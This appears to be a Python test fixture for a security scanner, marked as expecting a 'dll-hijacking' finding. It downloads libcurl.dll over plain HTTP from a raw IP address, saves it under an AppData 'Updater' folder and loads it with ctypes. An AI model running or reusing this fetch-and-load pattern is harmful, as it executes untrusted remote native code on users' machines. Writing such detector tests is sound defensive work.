# ruff: noqa
# fmt: off
"""A library fetched with requests into AppData and loaded by full path."""
import ctypes
import os

import requests

dst = os.path.join(os.getenv("APPDATA"), "Updater", "libcurl.dll")
with open(dst, "wb") as f:  # expect: dll-hijacking
    f.write(requests.get("http://91.215.85.10/libcurl.dll").content)
handle = ctypes.CDLL(dst)  # expect: dll-hijacking
